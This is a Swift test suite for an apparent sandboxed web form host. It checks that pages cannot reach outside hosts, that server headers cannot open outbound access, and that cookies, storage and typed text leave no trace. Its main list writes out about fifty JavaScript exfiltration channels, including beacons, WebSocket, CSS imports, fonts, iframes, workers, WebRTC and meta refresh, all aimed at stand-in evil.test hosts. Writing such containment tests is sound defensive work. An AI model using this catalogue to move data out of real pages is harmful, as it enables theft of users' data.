import Bridge
import Foundation
import WebHost
import WindowTesting

/// What a form's page could send to other hosts, and what it leaves behind.
@MainActor var collectionLeakTests: [PageTest] {
    [
        .form("nothing that a form loads, sends or announces reaches another host") { stage in
            try await stage.open(
                """
                const leak = (name) => "https://" + name + ".evil.test/x";
                const add = (tag, change, place = document.body) => {
                    const element = document.createElement(tag);
                    change(element);
                    place.append(element);
                    return element;
                };
                const head = (rel, name, more = () => {}) =>
                    add("link", (link) => { link.rel = rel; link.href = leak(name); more(link); }, document.head);
                const ways = {
                \(leaks.map { "    \"\($0)\": () => { \($1); }" }.joined(separator: ",\n"))
                };
                (async () => {
                    for (const [name, way] of Object.entries(ways)) {
                        try { await way(); } catch {}
                        await new Promise((resolve) => setTimeout(resolve, 20));
                    }
                    setTimeout(() => done(String(Object.keys(ways).length)), 1500);
                })();
                """)
            try expectEqual(try await stage.said(), "\(leaks.count)")
            try expectEqual(stage.strays, [])
            try expectEqual(stage.ends, [])
        },
        .form("the same techniques reach the form's own service, so the test is valid") { stage in
            try await stage.open(
                PageCode.call("collection-leak", "useOwnHost"))
            try expectEqual(try await stage.said(), "said")
            let paths = Set(stage.server.visits.map(\.path))
            for way in ["fetch", "image", "beacon", "events", "style", "service", "frame"] {
                try expect(paths.contains("/own/\(way)"), "\(way) did not arrive")
            }
            try expectEqual(stage.strays, ["staging.\(FormStage.host):443"])
        },
        .form("the service's own headers cannot allow access to another host") { stage in
            try await stage.open(
                "fetch('https://csp.evil.test/').catch(() => {}); setTimeout(() => done('said'), 500)",
                headers: [
                    "Content-Security-Policy":
                        "default-src * 'unsafe-inline' 'unsafe-eval'; report-uri https://report.evil.test/",
                    "Link":
                        "<https://preload.evil.test/x>; rel=preload; as=script, <https://preconnect.evil.test>; rel=preconnect",
                    "Reporting-Endpoints": "default=\"https://endpoint.evil.test/\"",
                    "NEL": "{\"report_to\":\"default\",\"max_age\":1}",
                    "Refresh": "3600;url=https://refresh.evil.test/",
                    "Alt-Svc": "h2=\"alt.evil.test:443\"",
                ])
            try expectEqual(try await stage.said(), "said")
            try expectEqual(stage.strays, [])
        },
        .form("a form finds no data of another, and no trace of where it was opened") { stage in
            let script = PageCode.call("collection-leak", "lookForTraces")
            for _ in 0..<2 {
                try await stage.open(
                    script, headers: ["Set-Cookie": "y=1; Max-Age=9999", "Cache-Control": "max-age=9999"])
                try expectEqual(try await stage.said(), #"["y=1","","","",1,0,0]"#)
                try stage.view.close()
            }
            let cookies = stage.server.visits.filter {
                $0.path == "/collect/" && $0.head.lowercased().contains("cookie:")
            }
            try expectEqual(cookies.count, 0)
        },
        .form("text typed into a form is neither logged nor stored") { stage in
            let secret = "typed-\(UUID().uuidString)"
            let start = Date()
            try await stage.open(
                PageCode.call("collection-leak", "spreadText", ["typed": secret]),
                body: "<input autocomplete=on name=fullName>")
            _ = try await stage.said()
            try await stage.wait("the form ends") { !stage.ends.isEmpty }
            try expect(
                stage.server.visits.contains { $0.path == "/keep" && $0.body == secret }, "the service did not get it")
            try stage.view.close()
            try expect(!stage.notes.mentions(secret), "it was noted: \(stage.notes.text)")
            try expect(!"\(stage.events)".contains(secret), "it was told: \(stage.events)")
            try expectEqual(Traces.of(secret, since: start), [])
            try expectEqual(stage.strays, [])
        },
    ]
}

/// Ways by which something leaves a page, each to a name of its own below `evil.test`.
private let leaks: [(String, String)] = [
    ("fetch", "return fetch(leak('fetch'), { mode: 'no-cors' })"),
    ("post", "return fetch(leak('post'), { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true })"),
    ("xhr", "const request = new XMLHttpRequest(); request.open('GET', leak('xhr')); request.send()"),
    ("image", "new Image().src = leak('image')"),
    ("srcset", "add('img', (image) => { image.srcset = leak('srcset') + ' 2x'; })"),
    (
        "picture",
        "document.body.insertAdjacentHTML('beforeend', `<picture><source srcset='${leak('picture')}'><img></picture>`)"
    ),
    ("socket", "new WebSocket('wss://socket.evil.test/x')"),
    ("beacon", "navigator.sendBeacon(leak('beacon'), 'x')"),
    ("events", "new EventSource(leak('events'))"),
    ("prefetch", "head('prefetch', 'prefetch')"),
    ("preload", "head('preload', 'preload', (link) => { link.as = 'image'; })"),
    ("modulepreload", "head('modulepreload', 'modulepreload')"), ("preconnect", "head('preconnect', 'preconnect')"),
    ("dns", "head('dns-prefetch', 'dns')"), ("prerender", "head('prerender', 'prerender')"),
    ("stylesheet", "head('stylesheet', 'stylesheet')"), ("icon", "head('icon', 'icon')"),
    ("manifest", "head('manifest', 'manifest')"), ("import", "return import(leak('import'))"),
    ("script", "add('script', (script) => { script.src = leak('script'); })"),
    ("style", "add('style', (style) => { style.textContent = `body { background: url(${leak('style')}) }`; })"),
    ("cssimport", "add('style', (style) => { style.textContent = `@import url(${leak('cssimport')})`; })"),
    (
        "font",
        "add('style', (style) => { style.textContent = `@font-face { font-family: x; src: url(${leak('font')}) } body { font-family: x }`; })"
    ),
    ("fontface", "return new FontFace('y', `url(${leak('fontface')})`).load()"),
    ("video", "add('video', (video) => { video.src = leak('video'); video.poster = leak('poster'); video.load(); })"),
    ("audio", "new Audio(leak('audio')).load()"),
    ("track", "document.body.insertAdjacentHTML('beforeend', `<video><track default src='${leak('track')}'></video>`)"),
    ("frame", "add('iframe', (frame) => { frame.src = leak('frame'); })"),
    ("object", "add('object', (object) => { object.data = leak('object'); })"),
    ("embed", "add('embed', (embed) => { embed.src = leak('embed'); })"),
    ("inputimage", "add('input', (input) => { input.type = 'image'; input.src = leak('inputimage'); })"),
    (
        "svg",
        "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${leak('svg')}'/><use href='${leak('use')}#x'/></svg>`)"
    ),
    ("ping", "const link = add('a', (link) => { link.href = '#x'; link.ping = leak('ping'); }); link.click()"),
    (
        "framefetch",
        "add('iframe', (frame) => { frame.srcdoc = `<script>fetch('${leak('srcdoc')}', { mode: 'no-cors' }); new Image().src = '${leak('srcdocimage')}'<\\\\/script>`; })"
    ),
    ("blankframe", "const frame = add('iframe', () => {}); new frame.contentWindow.Image().src = leak('blankframe')"),
    (
        "blankfetch",
        "const frame = add('iframe', () => {}); return frame.contentWindow.fetch(leak('blankfetch'), { mode: 'no-cors' })"
    ),
    ("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${leak('worker')}', { mode: 'no-cors' })`])))"),
    ("ownworker", "new Worker('/worker.js')"),
    ("service", "return navigator.serviceWorker?.register('/worker.js')"),
    (
        "rtc",
        "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:rtc.evil.test' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))"
    ),
    (
        "meta",
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${leak('meta')}'>`)"
    ),
    ("base", "add('base', (base) => { base.href = leak('base'); }, document.head); new Image().src = 'relative'"),
    ("report", "new ReportingObserver(() => {}).observe()"),
    ("worklet", "return CSS.paintWorklet?.addModule(leak('worklet'))"),
    ("audioworklet", "return new AudioContext().audioWorklet?.addModule(leak('audioworklet'))"),
    (
        "xslt",
        "const xml = new DOMParser().parseFromString(`<?xml-stylesheet type='text/xsl' href='${leak('xslt')}'?><x/>`, 'text/xml'); return xml"
    ),
    ("cursor", "document.body.style.cursor = `url(${leak('cursor')}), auto`"),
    ("share", "return navigator.share?.({ url: leak('share') })"),
    ("credentials", "location.href = 'https://x:y@credentials.evil.test/'"),
]
